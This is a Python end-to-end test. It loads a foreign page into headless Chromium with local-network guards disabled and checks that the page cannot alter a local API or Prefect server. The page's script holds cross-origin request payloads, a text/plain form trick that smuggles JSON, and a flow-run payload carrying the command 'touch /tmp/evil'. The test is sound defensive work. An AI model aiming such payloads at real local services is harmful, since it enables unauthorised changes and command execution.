"""A page of another origin, in a real browser whose guard of the local network is off, changes nothing on our servers.

It tries what such a page can: plain and JSON requests with and without reading the answer, forms, all methods, web
sockets, and a host name of its own that leads to this machine.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.e2e.conftest import Stack, wait_for

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)
GUARDS = (
    "LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets,BlockInsecurePrivateNetworkRequests,"
    "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessForNavigations,PrivateNetworkAccessForWorkers"
)
FOREIGN = "evil.example"

pytestmark = pytest.mark.skipif(BROWSER is None, reason="there is no Chromium here")

PAGE = """<!doctype html><title>foreign</title><body><script>
const told = [];
const note = (what, how) => told.push([what, String(how)]);
async function attack(name, url, options) {
  try {
    const answer = await fetch(url, options);
    note(name, answer.type === "opaque" ? "opaque" : `read ${answer.status} ${(await answer.text()).slice(0, 200)}`);
  } catch (trouble) { note(name, `blocked ${trouble}`); }
}
function form(url, fields) {
  return new Promise((done) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = "frame" + Math.random();
    const sheet = document.body.appendChild(document.createElement("form"));
    Object.assign(sheet, { method: "POST", action: url, target: frame.name, enctype: "text/plain" });
    for (const [name, value] of Object.entries(fields)) {
      const input = sheet.appendChild(document.createElement("input"));
      Object.assign(input, { name, value });
    }
    sheet.submit();
    setTimeout(done, 700);
  });
}
function socket(name, url, words) {
  return new Promise((done) => {
    let opened = false;
    try {
      const line = new WebSocket(url, ["prefect"]);
      line.onopen = () => { opened = true; words.forEach((each) => line.send(JSON.stringify(each))); };
      line.onerror = line.onclose = () => { note(name, opened ? "opened" : "refused"); done(); };
      setTimeout(() => { if (opened) note(name, "opened"); line.close(); done(); }, 1500);
    } catch (trouble) { note(name, `blocked ${trouble}`); done(); }
  });
}
(async () => {
  for (const [name, url, options] of ATTACKS) {
    await attack(name, url, options);
    await attack(name + ", unread", url, { ...options, mode: "no-cors", headers: {} });
    if (options.body) {
      navigator.sendBeacon(url, options.body);
      const text = options.body;
      await form(url, { [text.slice(0, -1) + ',"x":"']: '"}' });
    }
  }
  for (const [name, url, words] of SOCKETS) await socket(name, url, words);
  await fetch("/told", { method: "POST", body: JSON.stringify(told) });
})();
</script>"""


@dataclass
class Foreign:
    """A web server of somebody else on this machine: it serves the page, and takes note of what is sent to it."""

    page: str = ""
    told: list[list[str]] | None = None
    taken: list[str] = field(default_factory=list)
    port: int = 0


@pytest.fixture
def foreign() -> Iterator[Foreign]:
    here = Foreign()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.answer(here.page)

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            if self.path == "/told":
                here.told = json.loads(body)
            else:
                here.taken.append(body)
            self.answer("taken")

        def answer(self, text: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *arguments: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    here.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield here
    server.shutdown()
    server.server_close()


def attacks(stack: Stack, host: str) -> list[tuple[str, str, dict[str, Any]]]:
    """Return what is tried by name: address and options of a request."""
    api, prefect = f"http://{host}:{stack.port}/api/autonomous", f"http://{host}:{stack.prefect_port}/api"
    typed = {"Content-Type": "application/json"}

    def sent(method: str, body: Any = None, headers: dict[str, str] = typed) -> dict[str, Any]:
        return {"method": method} | ({} if body is None else {"headers": headers, "body": json.dumps(body)})

    deployment = stack.prefect("/deployments/name/cycle/cycle")["id"]
    run = {"name": "evil", "parameters": {"reason": "evil"}, "job_variables": {"command": "touch /tmp/evil"}}
    return [
        ("record", f"{api}/metrics", sent("POST", {"metric_name": "evil", "value": 1})),
        ("mode", f"{api}/mode", sent("POST", {"autonomous": False, "by": "evil"})),
        ("cycle", f"{api}/analysis/trigger", sent("POST")),
        ("objective", f"{api}/objectives/evil", sent("PUT", {"metric": "evil", "bound": 1})),
        ("no objective", f"{api}/objectives/cpu-not-saturated", sent("DELETE")),
        ("flow run", f"{prefect}/deployments/{deployment}/create_flow_run", sent("POST", run)),
        ("token", f"{prefect}/csrf-token?client=evil", {"method": "GET"}),
        ("variable", f"{prefect}/variables/", sent("POST", {"name": "evil", "value": "evil"})),
        ("pool", f"{prefect}/work_pools/", sent("POST", {"name": "evil", "type": "process"})),
        ("pause", f"{prefect}/work_pools/foreact", sent("PATCH", {"is_paused": True})),
        ("no deployment", f"{prefect}/deployments/{deployment}", sent("DELETE")),
        ("read ours", f"{api}/status", {"method": "GET"}),
        ("read theirs", f"{prefect}/flow_runs/filter", sent("POST", {"limit": 1})),
    ]


def everything(stack: Stack) -> dict[str, Any]:
    """Return what a page might have changed, the loop's own progress aside."""
    pool = stack.prefect("/work_pools/foreact")
    return {
        "mode": stack.api("/status")["autonomous_mode"],
        "persons": [
            each for each in stack.api("/audit?limit=1000")["entries"] if each["actor"] not in ("loop", "facade")
        ],
        "objectives": [each["objective"]["name"] for each in stack.api("/objectives")["objectives"]],
        "evil series": httpx.get(f"{stack.url}/metrics").text.count("evil"),
        "deployments": sorted(each["id"] for each in stack.prefect("/deployments/filter", {})),
        "pools": sorted(each["name"] for each in stack.prefect("/work_pools/filter", {})),
        "pool": (pool["is_paused"], pool["base_job_template"]),
        "variables": stack.prefect("/variables/filter", {}),
        "evil runs": [
            each["name"] for each in stack.runs() if each["name"] == "evil" or "evil" in str(each["parameters"])
        ],
        "events": stack.prefect("/events/filter", {"filter": {"event": {"name": ["evil"]}}})["total"],
    }


@pytest.mark.parametrize("page_host", ["127.0.0.1", FOREIGN])
def test_a_foreign_page_changes_nothing(stack: Stack, foreign: Foreign, tmp_path: Path, page_host: str) -> None:
    tried = [
        (f"{name} at {host}", *rest)
        for host in ("127.0.0.1", "localhost", FOREIGN)
        for name, *rest in attacks(stack, host)
    ]
    control = ("control", f"http://localhost:{foreign.port}/control", {"method": "POST", "body": '{"a": 1}'})
    event = {
        "occurred": "2026-01-01T00:00:00Z",
        "event": "evil",
        "resource": {"prefect.resource.id": "evil"},
        "id": "0",
    }
    sockets = [
        (f"{path} at {host}", f"ws://{host}:{stack.prefect_port}/api{path}", [{"type": "auth", "token": None}, event])
        for path in ("/events/in", "/events/out", "/logs/out")
        for host in ("127.0.0.1", FOREIGN)
    ]
    page = PAGE.replace("ATTACKS", json.dumps([control, *tried])).replace("SOCKETS", json.dumps(sockets))
    before, foreign.page = everything(stack), page
    browser = subprocess.Popen(
        [
            str(BROWSER),
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            f"--user-data-dir={tmp_path}",
            f"--disable-features={GUARDS}",
            f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1",
            f"http://{page_host}:{foreign.port}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        told = wait_for("the page's report", lambda: foreign.told, 180)
    finally:
        browser.kill()
        browser.wait(20)
    assert foreign.taken, "the guard of the browser is on: the page reached nobody"
    heard = [(name, how) for name, how in told if "control" not in name]
    assert len(heard) >= 2 * len(tried) + len(sockets)
    assert [each for each in heard if each[1].startswith("read") or each[1] == "opened"] == []
    assert everything(stack) == before
